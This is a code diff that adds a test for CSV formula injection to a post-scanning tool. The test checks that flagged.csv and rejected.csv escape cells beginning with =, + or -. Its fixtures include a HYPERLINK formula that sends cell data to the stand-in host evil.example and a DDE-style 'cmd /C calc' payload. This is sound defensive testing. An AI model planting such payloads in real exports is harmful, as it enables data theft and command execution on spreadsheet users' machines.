@@ -71,6 +71,21 @@ def test_flagged_csv_keeps_texts_with_quotes_commas_and_line_breaks(client, tmp_
                                                                 ("", text, "pii-contact")]
 
 
+def test_flagged_and_rejected_csv_guard_cells_a_spreadsheet_would_run(client, tmp_path):
+    """Issue 12: flagged.csv used to carry `=HYPERLINK(...)` texts as formulas."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"PESEL 44051401359")'
+    posts = [{**POSTS[2], "text": formula, "author": "+1+cmd|' /C calc'!A0", "account_handle": "@acme"},
+             {"id": "-2+3", "text": 42}]
+    scanned(client, tmp_path, posts)
+    out = tmp_path / "out"
+    with (out / "flagged.csv").open(encoding="utf-8", newline="") as stream:
+        flagged = list(csv.DictReader(stream))
+    assert flagged[0]["text"] == "'" + formula and flagged[0]["author"] == "'+1+cmd|' /C calc'!A0"
+    assert flagged[0]["account_handle"] == "@acme"  # a handle runs nothing and stays as it is
+    with (out / "rejected.csv").open(encoding="utf-8", newline="") as stream:
+        assert [r["id"] for r in csv.DictReader(stream)] == ["'-2+3", ""]
+
+
 def test_summary_json_adds_up(client, tmp_path):
     scanned(client, tmp_path, POSTS)
     summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
